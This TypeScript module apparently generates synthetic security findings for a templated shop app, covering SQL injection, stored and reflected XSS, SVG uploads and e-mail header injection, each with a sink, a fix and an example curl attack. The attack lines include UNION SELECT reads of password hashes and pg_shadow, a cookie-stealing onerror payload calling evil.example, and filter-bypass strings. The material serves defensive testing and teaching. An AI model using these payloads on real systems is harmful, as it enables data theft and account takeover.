import { type Flaw, told } from './flaw.ts';

/** Input that ends up in a query, a page or a program. */
export const flawsOfInjection = {
  sort: {
    type: 'SQLI',
    cwe: 'CWE-89',
    ratings: ['userTakeover', 'userRead', 'anonymousRead'],
    file: 'repository',
    titles: [
      told`SQL injection through the sort order of ${'many'}`,
      told`\`ORDER BY\` built from user input in \`${'repository'}\``,
    ],
    texts: [
      told`Column names can't be bound, so \`?sort=\` is concatenated into \`ORDER BY\`. A \`CASE WHEN (SELECT …) THEN … END\` turns the order of the ${'many'} into an oracle, one bit per request.`,
      told`\`${'repository'}.list\` appends \`sort\` and \`direction\` to the statement. The check \`/^\\w+/\` lacks its end anchor: \`id; --\` passes.`,
    ],
    sink: told`query.orderBy(\`${'store'}.\${sort} \${direction}\`);`,
    fix: told`query.orderBy(\`${'store'}.\${sortable[sort] ?? 'id'}\`, direction === 'desc' ? 'DESC' : 'ASC');`,
    attack: told`curl -G -H "Authorization: Bearer $TOKEN" --data-urlencode "sort=(CASE WHEN (SELECT 1)=1 THEN id ELSE name END)" https://shop.example.com${'route'}`,
  },
  filter: {
    type: 'SQLI',
    cwe: 'CWE-89',
    ratings: ['anonymousTakeover', 'userTakeover', 'anonymousRead'],
    file: 'repository',
    titles: [
      told`SQL injection in the text filter for ${'many'}`,
      told`Unescaped \`LIKE\` pattern in \`${'repository'}.search\``,
    ],
    texts: [
      told`The search term is placed between \`'%\` and \`%'\` in a template string. A quote ends the literal; \`UNION SELECT\` then reads any table, ${'shows'} included.`,
      told`\`manager.query()\` is called with an interpolated string although it takes parameters. Input: \`q\` of \`GET ${'route'}\`. Example: \`q=%27%20OR%201=1--\`.`,
    ],
    sink: told`return this.manager.query(\`SELECT * FROM ${(s) => s.key.replaceAll('-', '_')} WHERE name LIKE '%\${q}%'\`);`,
    fix: told`return this.manager.query('SELECT * FROM ${(s) => s.key.replaceAll('-', '_')} WHERE name LIKE $1', [\`%\${q}%\`]);`,
    attack: told`curl -G --data-urlencode "q=' UNION SELECT 1,email,password_hash FROM users --" https://shop.example.com${'route'}`,
  },
  report: {
    type: 'SQLI',
    cwe: 'CWE-89',
    ratings: ['adminTakeover', 'userTakeover', 'adminRead'],
    file: 'job',
    titles: [
      told`Second-order SQL injection in the nightly job for ${'many'}`,
      told`Stored filter expression of ${'many'} is executed as SQL`,
    ],
    texts: [
      told`Saving is parameterized. The nightly job reads the saved expression back and pastes it into \`WHERE\`; what was harmless as data becomes part of a statement that runs with the rights of the reporting user.`,
      told`\`jsonb\` paths are assembled with \`->>'\${column}'\`. Column names come from the stored definition of ${'aOne'} and may hold a quote.`,
    ],
    sink: told`await this.warehouse.query(\`SELECT \${columns} FROM facts WHERE \${definition.where}\`);`,
    fix: told`await this.warehouse.query(compile(definition, allowedColumns));`,
    attack: told`curl -X POST -H "Authorization: Bearer $TOKEN" -d '{"where":"1=1) UNION SELECT usename, passwd FROM pg_shadow --"}' https://shop.example.com${'route'}`,
  },
  stored: {
    type: 'XSS',
    cwe: 'CWE-79',
    ratings: ['storedScript', 'storedScript', 'userReadAndChange'],
    file: 'view',
    titles: [
      told`Stored XSS in ${'many'} shown to the support desk`,
      told`Unsanitized Markdown in ${'aOne'} runs script for everyone who opens it`,
      told`\`dangerouslySetInnerHTML\` renders text of ${'many'}`,
    ],
    texts: [
      told`The text of ${'aOne'} goes through \`marked()\` with its default options and into \`dangerouslySetInnerHTML\`. \`<img src=x onerror="fetch('//evil.example/'+document.cookie)">\` survives and runs in the session of whoever reads it.`,
      told`Only \`<script>\` tags are removed, by a regular expression that runs once: \`<scr<script>ipt>alert(1)</scr</script>ipt>\` comes out whole. Payloads in \`onfocus\`, \`</textarea>\` and \`[link](javascript:alert(1))\` are untouched.`,
    ],
    sink: told`<div dangerouslySetInnerHTML={{ __html: marked(text) }} />`,
    fix: told`<Markdown>{text}</Markdown>`,
    attack: told`curl -X POST -H "Authorization: Bearer $TOKEN" -d '{"text":"<img src=x onerror=alert(document.domain)>"}' https://shop.example.com${'route'}`,
  },
  reflected: {
    type: 'XSS',
    cwe: 'CWE-79',
    ratings: ['reflectedScript'],
    file: 'view',
    titles: [
      told`Reflected XSS in the page for ${'many'}`,
      told`Query parameter \`back\` is echoed into a link on ${'many'}`,
    ],
    texts: [
      told`The server-side template prints \`?q=\` inside \`<script>window.__STATE__ = …</script>\` with \`JSON.stringify\`. A term that contains \`</script><script>alert(1)</script>\` closes the block early.`,
      told`\`back\` becomes an \`href\` without a look at its scheme. \`?back=javascript:alert(1)\` needs one click; the page is the one that customers are sent to from e-mails.`,
    ],
    sink: told`res.send(\`<script>window.__STATE__ = \${JSON.stringify(state)}</script>\`);`,
    fix: told`res.send(\`<script>window.__STATE__ = \${serialize(state, { isJSON: true })}</script>\`);`,
    attack: told`https://shop.example.com/${'key'}?q=%3C/script%3E%3Cscript%3Ealert(1)%3C/script%3E`,
  },
  svg: {
    type: 'XSS',
    cwe: 'CWE-434',
    ratings: ['storedScript', 'reflectedScript'],
    file: 'controller',
    titles: [
      told`SVG files attached to ${'many'} are served as active content`,
      told`Script in uploaded images of ${'many'} runs on the shop’s own origin`,
    ],
    texts: [
      told`The upload filter accepts \`image/*\`, SVG among it, and files are delivered from the main domain with their stored type. An SVG with \`<script>\` or \`onload=\` executes when opened in a tab.`,
      told`\`Content-Disposition: attachment\` is set for PDF but not for images. Combined with the missing \`X-Content-Type-Options\`, ${'aOne'} with a polyglot GIF/HTML file turns into a page.`,
    ],
    sink: told`fileFilter: (_req, file, done) => done(null, file.mimetype.startsWith('image/')),`,
    fix: told`fileFilter: (_req, file, done) => done(null, ['image/png', 'image/jpeg', 'image/webp'].includes(file.mimetype)),`,
    attack: told`curl -F 'file=@evil.svg;type=image/svg+xml' -H "Authorization: Bearer $TOKEN" https://shop.example.com${'route'}/10021/images`,
  },
  mail: {
    type: 'XSS',
    cwe: 'CWE-80',
    ratings: ['reflectedScript', 'hardPeek'],
    file: 'job',
    titles: [
      told`HTML injection in e-mails about ${'many'}`,
      told`Sender-controlled text is not escaped in ${'one'} e-mails`,
    ],
    texts: [
      told`The e-mail template uses triple braces, \`{{{message}}}\`. A message with markup lets ${'by'} send convincing phishing pages from the shop's own address.`,
      told`A line break in the display name (\`"Ada\\r\\nBcc: all@example.com"\`) adds a header: the name is concatenated into \`From:\` before encoding.`,
    ],
    sink: told`<p>{{{message}}}</p>`,
    fix: told`<p>{{message}}</p>`,
    attack: told`curl -X POST -H "Authorization: Bearer $TOKEN" -d '{"message":"<a href=//evil.example>Confirm your card</a>"}' https://shop.example.com${'route'}`,
  },
} as const satisfies Record<string, Flaw>;
